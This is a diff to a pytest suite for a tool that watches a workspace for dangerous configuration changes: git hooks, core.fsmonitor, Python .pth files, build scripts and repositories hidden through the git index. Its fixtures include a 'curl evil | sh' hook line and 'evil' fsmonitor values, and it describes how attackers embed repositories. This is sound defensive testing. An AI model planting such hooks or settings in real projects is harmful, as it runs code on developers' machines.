@@ -14,7 +14,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from init import gitconfig, guard, guard_quarantine, guard_table, guard_views, guard_walk
+from init import gitconfig, gitindex, guard, guard_quarantine, guard_table, guard_views, guard_walk
 from init.guard import Change
 
 HOOK = "#!/bin/sh\ncurl evil | sh\n"
@@ -143,6 +143,20 @@ def test_every_rule_is_written_for_people_and_known(rule: guard_table.Rule) -> N
         ("package.json", "[" * 100_000, (f"{'[' * guard.MAX_WIDTH}… (100000 characters)",)),
         ("composer.json", '{"scripts": {"post-install-cmd": "x"}}', ('scripts.post-install-cmd = "x"',)),
         ("pyproject.toml", '[build-system]\nbackend-path = ["."]', ('backend-path = ["."]',)),
+        ("pyproject.toml", "[tool.mypy]\nplugins = [\n'a',\n\n]\nx = 1", ("plugins = [ 'a', ]",)),
+        ("pyproject.toml", "[a.main]\ninit-hook = '''\nimport os\n'''\n", ("init-hook = ''' import os '''",)),
+        ("setup.cfg", "[mypy]\nplugins =\n  a,\n\n  b\nstrict = x\n", ("plugins = a, b",)),
+        ("tox.ini", "[testenv]\ncommands = x\n[mypy]\nplugins: a", ("plugins: a",)),
+        (".flake8", "[flake8:local-plugins]\npaths = .\n", ("[flake8:local-plugins]", "paths = .")),
+        ("Cargo.toml", '[package]\nname = "build"\nbuild = "x.rs"\n', ('build = "x.rs"',)),
+        ("Cargo.toml", 'package = { "build"="x.rs" }', ('package = { "build"="x.rs" }',)),
+        ("package.json", '{"eslintConfig": {"parser": "./x"}}', ('eslintConfig = {"parser": "./x"}',)),
+        ("package.json", '{"prettier": "./x"}', ('prettier = "./x"',)),
+        (".git/config", "[delta]\npager = x", ("delta.pager = x",)),
+        (".git/lazygit.yml", "customCommands: x", ("customCommands: x",)),
+        (".venv/lib/python3.11/site-packages/a.pth", "/a\nimport os; x()\n", ("import os; x()",)),
+        ("venv/Lib/site-packages/a.pth", "\ufeffimport\tos\n", ("\ufeffimport os",)),
+        ("venv/lib/python3.9/site-packages/a.pth", "#\x0cimport x\n", ("#\x0cimport x",)),
         (
             ".vscode/settings.json",
             '{ // "x": 1,\n "editor.tabSize": 2, /* */ "git.path": "/x//y", "[c]": {"a.b": [1,],},}',
@@ -253,6 +267,19 @@ def test_a_value_that_comes_back_into_force_is_told(root: Path, project: Path) -
     put(project / ".git" / "config", "[core]\neditor = bad\neditor = good\n")
     found = told(root, lambda: put(project / ".git" / "config", "[core]\neditor = bad\n"))
     assert found == {"project/.git/config": ("changed", ("core.editor = bad",))}
+
+
+def test_the_interpreter_of_a_virtual_environment_is_told_when_it_changes(root: Path) -> None:
+    program = root / ".venv" / "bin" / "python3.11"
+    program.parent.mkdir(parents=True)
+    program.symlink_to("/usr/bin/python3.11")
+    (program.parent / "python").symlink_to("python3.11")
+
+    def act() -> None:
+        program.unlink()
+        put(program, "evil", 0o755)
+
+    assert told(root, act) == {".venv/bin/python3.11": ("changed", ("evil",))}
 
 
 # Where git would find it
@@ -422,6 +449,244 @@ def test_what_a_link_leads_to_in_the_workspace_counts(root: Path) -> None:
     }
 
 
+# What git finds by its index, in folders that are not searched
+
+
+def embed(folder: Path, name: str) -> Path:
+    """Commit a repository within another one, as an attacker would."""
+    inner = folder / name
+    inner.mkdir(parents=True, exist_ok=True)
+    git(inner, "init", "-q", "-b", "main")
+    git(inner, "commit", "-q", "--allow-empty", "-m", "x")
+    git(folder, "add", "-f", name)
+    return inner
+
+
+EVIL = ("changed", ("core.fsmonitor = evil",))
+INDEXES = {
+    "plain": [],
+    "3": ["update-index", "--index-version", "3"],
+    "4": ["update-index", "--index-version", "4"],
+    "split": ["update-index", "--split-index"],
+}
+
+
+@pytest.mark.parametrize("name", ["vendor", "node_modules/x/y", "target/" + "long" * 30 + "/x"])
+@pytest.mark.parametrize("kind", INDEXES)
+def test_a_repository_that_the_index_names_is_found_where_nothing_is_searched(
+    root: Path, project: Path, name: str, kind: str
+) -> None:
+    inner = embed(project, name)
+    if kind == "3":
+        put(project / "intended")
+        git(project, "add", "-N", "intended")
+    if INDEXES[kind]:
+        git(project, *INDEXES[kind])
+    found = told(root, lambda: git(inner, "config", "core.fsmonitor", "evil"))
+    assert found == {f"project/{name}/.git/config": EVIL}
+
+
+def test_what_the_index_of_a_repository_in_the_index_names_is_found(root: Path, project: Path) -> None:
+    inner = embed(project, "vendor")
+    inmost = embed(inner, "node_modules/x")
+
+    def act() -> None:
+        git(inmost, "config", "core.fsmonitor", "evil")
+        embed(inmost, "target/y")
+        put(inmost / "target" / "y" / ".git" / "hooks" / "pre-push", "evil")
+
+    assert told(root, act) == {
+        "project/vendor/node_modules/x/.git/config": EVIL,
+        "project/vendor/node_modules/x/target/y/.git/hooks/pre-push": ("added", ("evil",)),
+    }
+
+
+@pytest.mark.parametrize("version", ["2", "4"])
+def test_a_gitlink_that_replaces_an_entry_of_a_shared_index_is_found(
+    root: Path, project: Path, version: str
+) -> None:
+    git(project, "update-index", "--index-version", version)
+    put(project / "vendor", "a file")
+    git(project, "add", "-f", "vendor")
+    git(project, "update-index", "--split-index")
+    (project / "vendor").unlink()
+    (project / "vendor").mkdir()
+    git(project / "vendor", "init", "-q")
+    git(project / "vendor", "commit", "-q", "--allow-empty", "-m", "x")
+    commit_id = git(project / "vendor", "rev-parse", "HEAD").strip()
+    git(project, "update-index", "--cacheinfo", f"160000,{commit_id},vendor")
+    assert "160000" in git(project, "ls-files", "-s", "vendor")
+    found = told(root, lambda: git(project / "vendor", "config", "core.fsmonitor", "evil"))
+    assert found == {"project/vendor/.git/config": EVIL}
+
+
+def test_the_index_of_a_linked_worktree_and_of_a_submodule_count(root: Path, project: Path) -> None:
+    add_submodule(project)
+    git(project, "worktree", "add", "-q", "../tree")
+    inner = [embed(root / "tree", "vendor"), embed(project / "libs" / "other", "target/x")]
+    found = told(root, lambda: [git(folder, "config", "core.fsmonitor", "evil") for folder in inner])
+    assert found == {"tree/vendor/.git/config": EVIL, "project/libs/other/target/x/.git/config": EVIL}
+
+
+def test_an_index_of_longer_names_of_objects_is_read(root: Path) -> None:
+    git(root, "init", "-q", "--object-format=sha256")
+    put(root / "a")
+    commit(root)
+    put(root / "vendor" / "b")
+    git(root / "vendor", "init", "-q", "--object-format=sha256")
+    git(root / "vendor", "commit", "-q", "--allow-empty", "-m", "x")
+    git(root, "add", "-f", "vendor")
+    found = told(root, lambda: git(root / "vendor", "config", "core.fsmonitor", "evil"))
+    assert found == {"vendor/.git/config": EVIL}
+    assert guard.take(str(root)).unseen == ()
+
+
+@pytest.mark.parametrize("version", ["2", "4"])
+def test_the_gitlinks_are_those_that_git_lists(project: Path, version: str) -> None:
+    for name in ("vendor", "libs/" + "n" * 200, "é"):
+        embed(project, name)
+    git(project, "update-index", "--index-version", version)
+    names, whole = gitindex.gitlinks((project / ".git" / "index").read_bytes(), 20)
+    assert whole
+    listed = [line.partition("\t") for line in git(project, "ls-files", "-sz").split("\0")]
+    assert {os.fsdecode(name) for name in names} == {
+        path for head, _, path in listed if head.startswith("160000")
+    }
+    names, _ = gitindex.gitlinks((project / ".git" / "index").read_bytes(), 20, every=True)
+    assert {os.fsdecode(name) for name in names} == {path for _, _, path in listed if path}
+
+
+def test_a_gitlink_of_an_odd_mode_is_one_to_git(root: Path, project: Path) -> None:
+    embed(project, "vendor")
+    index = project / ".git" / "index"
+    data = index.read_bytes()
+    assert data.count(b"\0\0\xe0\0") == 1
+    index.write_bytes(data.replace(b"\0\0\xe0\0", b"\1\0\xe1\xa4"))
+    found = told(root, lambda: put(project / "vendor" / ".git" / "hooks" / "pre-push", "evil"))
+    assert found == {"project/vendor/.git/hooks/pre-push": ("added", ("evil",))}
+
+
+def no_index(path: Path) -> None:
+    path.unlink()
+    path.symlink_to("elsewhere")
+
+
+@pytest.mark.parametrize(
+    "act",
+    [
+        lambda path: path.write_bytes(b"x"),
+        lambda path: path.write_bytes(path.read_bytes()[:100]),
+        lambda path: path.write_bytes(b"DIRC\0\0\0\2\xff\xff\xff\xff" + b"\0" * 10_000_000),
+        lambda path: path.write_bytes(b"DIRC\0\0\0\4\xff\xff\xff\xff" + b"\xff" * 1_000_000),
+        lambda path: os.truncate(path, guard_walk.MAX_INDEX + 1),
+        no_index,
+    ],
+)
+def test_an_index_that_cannot_be_read_is_told(root: Path, project: Path, act: Callable[[Path], None]) -> None:
+    start = time.process_time()
+    act(project / ".git" / "index")
+    assert guard.take(str(root)).unseen == ("project/.git/index",)
+    assert time.process_time() - start < 5
+
+
+def test_a_sparse_index_does_not_tell_all(root: Path, project: Path) -> None:
+    git(project, "sparse-checkout", "set", "--cone", "--sparse-index", "none")
+    assert guard.take(str(root)).unseen == ("project/.git/index",)
+
+
+def test_an_index_that_names_too_many_ends(
+    root: Path, project: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for name in ("vendor", "target"):
+        embed(project, name)
+    monkeypatch.setattr(guard_walk, "MAX_LEADS", 0)
+    assert "project/vendor" in guard.take(str(root)).unseen
+
+
+def _entry(mode: int, flags: int, rest: bytes) -> bytes:
+    return b"\0" * 24 + mode.to_bytes(4, "big") + b"\0" * 32 + flags.to_bytes(2, "big") + rest
+
+
+@pytest.mark.parametrize("version", ["2", "4"])
+def test_an_index_that_several_threads_read_is_read(root: Path, project: Path, version: str) -> None:
+    inner = embed(project, "vendor")
+    git(project, "update-index", "--index-version", version)
+    put(project / "more")
+    git(project, "-c", "index.threads=2", "-c", "index.recordOffsetTable=true", "add", "more")
+    assert b"IEOT" in (project / ".git" / "index").read_bytes()
+    assert guard.take(str(root)).unseen == ()
+    found = told(root, lambda: git(inner, "config", "core.fsmonitor", "evil"))
+    assert found == {"project/vendor/.git/config": EVIL}
+
+
+def test_an_entry_to_which_only_the_table_of_offsets_sends_is_found() -> None:
+    plain, link = _entry(0x81A4, 1, b"a\0"), _entry(0xE000, 6, b"vendor\0\0\0\0")
+    data = b"DIRC\0\0\0\2\0\0\0\1" + plain
+    at = len(data) + 8
+    data += b"XXXX" + len(link).to_bytes(4, "big") + link
+    data += b"IEOT" + b"".join(number.to_bytes(4, "big") for number in (12, 1, at, 1)) + b"\0" * 20
+    assert gitindex.gitlinks(data, 20) == ({b"vendor"}, True)
+
+
+def test_a_table_of_offsets_cannot_make_it_take_long() -> None:
+    table = b"".join(number.to_bytes(4, "big") for number in (12, 10_000)) * 8000
+    data = b"DIRC\0\0\0\2\0\0\x27\x10" + _entry(0x81A4, 1, b"a\0") * 10_000
+    data += b"IEOT" + (len(table) + 4).to_bytes(4, "big") + b"\0\0\0\1" + table
+    start = time.process_time()
+    assert gitindex.gitlinks(data, 20) == (set(), False)
+    assert time.process_time() - start < 2
+
+
+ENTRIES = st.one_of(
+    st.binary(max_size=80),
+    st.builds(_entry, st.sampled_from([0xE000, 0x81A4]), st.integers(0, 0xFFFF), st.binary(max_size=20)),
+)
+
+
+@given(
+    st.sampled_from([b"DIRC", b"", b"link"]),
+    st.integers(0, 5),
+    st.integers(0, 0xFFFFFFFF),
+    st.lists(ENTRIES).map(b"".join),
+    st.sampled_from([20, 32]),
+)
+def test_an_index_of_any_bytes_is_read_to_its_end(
+    magic: bytes, version: int, count: int, rest: bytes, size: int
+) -> None:
+    data = magic + version.to_bytes(4, "big") + count.to_bytes(4, "big") + rest
+    for every in (False, True):
+        names, _ = gitindex.gitlinks(data, size, every=every)
+        assert all(b"\0" not in name for name in names)
+
+
+# Where git keeps submodules
+
+
+def test_the_objects_of_a_submodule_are_not_searched(
+    root: Path, project: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    add_submodule(project)
+    store = project / ".git" / "modules" / "libs" / "other"
+    for number in range(256):
+        (store / "objects" / f"{number:02x}").mkdir(exist_ok=True)
+    monkeypatch.setattr(guard_walk, "MAX_FOLDERS", 50)
+    assert guard.take(str(root)).unseen == ()
+
+
+@pytest.mark.parametrize("name", ["logs", "info", "objects", "logs/a"])
+def test_a_submodule_may_have_the_name_of_a_folder_of_git(root: Path, project: Path, name: str) -> None:
+    add_submodule(project)
+    git(project, "submodule", "--quiet", "add", "--name", name, "../other", "libs/again")
+
+    def act() -> None:
+        git(project / "libs" / "again", "config", "core.fsmonitor", "evil")
+        embed(project / "libs" / "again", "target")
+
+    assert told(root, act) == {f"project/.git/modules/{name}/config": EVIL}
+    shutil.rmtree(project / "libs" / "again")
+    assert f"project/.git/modules/{name}/config" in guard.take(str(root)).items
+
+
 # What is not told
 
 
@@ -495,6 +760,11 @@ def edit_settings(project: Path) -> None:
         '{"editor.rulers": [80], "[python]": {"editor.tabSize": 4}} // x',
     )
     put(project / "pyproject.toml", '[build-system]\nrequires = ["x"]\n[project]\nname = "a"\n')
+    put(project / "Cargo.toml", '[package]\nname = "a"\nbuild = false\n[build-dependencies]\nbuild-x = "1"\n')
+    put(project / "setup.cfg", "[mypy]\nstrict = true\n[tool:pytest]\naddopts = -q\n")
+    put(project / "tox.ini", "[testenv]\ncommands = pytest\n")
+    put(project / "venv" / "lib" / "python3.12" / "site-packages" / "a.pth", "/project/src\n")
+    put(project / "venv" / "lib" / "python3.12" / "site-packages" / "a" / "setup.py", "import x\n")
     put(project / ".gitattributes", "* text=auto\n")
     put(project / ".opencode" / "node_modules" / "x" / "index.js")
 
@@ -588,7 +858,7 @@ def test_links_in_a_circle_end(root: Path, name: str) -> None:
     (root / name).parent.mkdir(parents=True, exist_ok=True)
     (root / name).symlink_to(Path(name).name)
     (root / "up").symlink_to(".")
-    assert not guard.take(str(root)).truncated
+    assert not guard.take(str(root)).unseen
 
 
 def test_a_workspace_that_is_itself_all_it_can_be(root: Path) -> None:
@@ -599,7 +869,7 @@ def test_a_workspace_that_is_itself_all_it_can_be(root: Path) -> None:
     put(root / "hooks" / "x", "a")
     found = guard.take(str(root))
     assert {"hooks/x", "config", ".git"} <= set(found.items)
-    assert not found.truncated
+    assert not found.unseen
 
 
 HOSTILE = {
@@ -650,10 +920,10 @@ def test_where_a_limit_ends_the_search_it_says_so(
     put(root / "a" / "b" / "c" / "d" / ".envrc", "a")
     put(root / ".envrc", "a")
     (root / ".vimrc").symlink_to(".envrc")
-    assert not guard.take(str(root)).truncated
+    assert not guard.take(str(root)).unseen
     monkeypatch.setattr(guard_walk, limit, value)
     found = guard.take(str(root))
-    assert found.truncated
+    assert found.unseen
     *_, last = guard.compare(found, found)
     assert last.what == "unseen"
     assert "not searched" in guard.report([last])
@@ -837,7 +1107,7 @@ def test_a_configuration_that_cannot_be_read_is_replaced_as_a_whole(
 
 
 @pytest.mark.parametrize("limit", ["MAX_FILE", "MAX_READ"])
-def test_what_was_too_large_to_keep_is_moved_away(
+def test_what_was_too_large_to_keep_stays_and_is_told(
     root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str
 ) -> None:
     monkeypatch.setattr(guard_walk, limit, 10)
@@ -845,8 +1115,9 @@ def test_what_was_too_large_to_keep_is_moved_away(
     (outcome,) = guard.quarantine(
         str(root), changes(root, lambda: put(root / ".envrc", "b" * 101)), str(tmp_path / "q")
     )
-    assert outcome.what == "moved"
-    assert not (root / ".envrc").exists()
+    why = "too large to put back what was there before: look at it yourself"
+    assert outcome == (".envrc", "failed", why)
+    assert (root / ".envrc").read_text() == "b" * 101
 
 
 def test_what_cannot_be_copied_gets_another_name_and_comes_back(
